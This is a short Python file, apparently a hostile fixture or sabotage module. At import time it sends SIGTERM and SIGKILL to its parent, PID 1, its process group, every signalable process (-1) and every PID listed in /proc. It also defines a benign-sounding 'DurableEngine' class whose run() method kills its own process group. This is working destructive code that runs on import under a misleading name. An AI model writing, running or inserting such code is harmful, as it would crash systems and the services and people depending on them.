"""Kills whatever it may: its parent, its group, process 1, everybody, the processes that it can find."""

import os
import signal

for target in (os.getppid(), 1, 0, -1, *(int(name) for name in os.listdir("/proc") if name.isdigit())):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if target != os.getpid():
                os.kill(target, number)
        except OSError:
            pass


class DurableEngine:
    def run(self, workflow, state):
        os.killpg(0, signal.SIGKILL)
